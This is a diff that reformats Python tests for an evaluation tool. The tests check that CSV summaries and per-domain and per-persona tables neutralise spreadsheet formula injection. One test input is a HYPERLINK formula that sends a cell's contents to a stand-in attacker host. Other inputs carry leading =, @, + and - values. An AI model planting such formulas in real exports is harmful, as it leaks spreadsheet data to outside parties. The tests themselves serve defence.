@@ -29,16 +29,28 @@ def test_numbers_are_not_formulas_and_everything_round_trips():
 
 def test_summary_csv_neutralises_hostile_run_and_rubric_names_keeps_numbers(tmp_path):
     run, rubric = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)"
-    rows = [{"conversation_id": f"c{i}", "tutorial_id": f"t{i}", "run": run, "domain": "-Health",
-             "metrics": {rubric: v, "Clarity": 5 - v}} for i, v in enumerate([1.0, 2.0, 4.0, 5.0])]
+    rows = [
+        {
+            "conversation_id": f"c{i}",
+            "tutorial_id": f"t{i}",
+            "run": run,
+            "domain": "-Health",
+            "metrics": {rubric: v, "Clarity": 5 - v},
+        }
+        for i, v in enumerate([1.0, 2.0, 4.0, 5.0])
+    ]
     (tmp_path / "r").mkdir()
     (tmp_path / "r" / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
-    low = [{**r, "conversation_id": f"d{i}", "run": "-low", "metrics": {rubric: -0.16 * (i + 1), "Clarity": 1.0}}
-           for i, r in enumerate(rows)]  # a metric with negative values (a difference, a gain)
+    low = [
+        {**r, "conversation_id": f"d{i}", "run": "-low", "metrics": {rubric: -0.16 * (i + 1), "Clarity": 1.0}}
+        for i, r in enumerate(rows)
+    ]  # a metric with negative values (a difference, a gain)
     (tmp_path / "s").mkdir()
     (tmp_path / "s" / "scores.jsonl").write_text("".join(json.dumps(r) + "\n" for r in low))
-    runs = [load_run_scores(run, "+label", tmp_path / "r" / "scores.jsonl"),
-            load_run_scores("-low", "-low", tmp_path / "s" / "scores.jsonl")]
+    runs = [
+        load_run_scores(run, "+label", tmp_path / "r" / "scores.jsonl"),
+        load_run_scores("-low", "-low", tmp_path / "s" / "scores.jsonl"),
+    ]
     summary = summarize(runs, [rubric, "Clarity"])
     write_summary(summary, tmp_path / "out")
     with open(tmp_path / "out" / "summary.csv", newline="", encoding="utf-8") as fh:
@@ -77,8 +89,21 @@ def test_evaluate_by_domain_and_persona_tables_are_neutralised(tmp_path):
     meta = json.loads((run / "run.json").read_text())
     (run / "run.json").write_text(json.dumps({**meta, "name": "=HYPERLINK(1)"}))
     for by, name in (("domain", "by_domain.csv"), ("persona", "by_persona.csv")):
-        res = CliRunner().invoke(app, ["evaluate", str(run), "--no-judge", "--metrics", "Completion", "--no-figures",
-                                       "--by", by, "--out", str(tmp_path / by)])
+        res = CliRunner().invoke(
+            app,
+            [
+                "evaluate",
+                str(run),
+                "--no-judge",
+                "--metrics",
+                "Completion",
+                "--no-figures",
+                "--by",
+                by,
+                "--out",
+                str(tmp_path / by),
+            ],
+        )
         assert res.exit_code == 0, res.output
         with open(tmp_path / by / name, newline="", encoding="utf-8") as fh:
             table = list(csv.reader(fh))
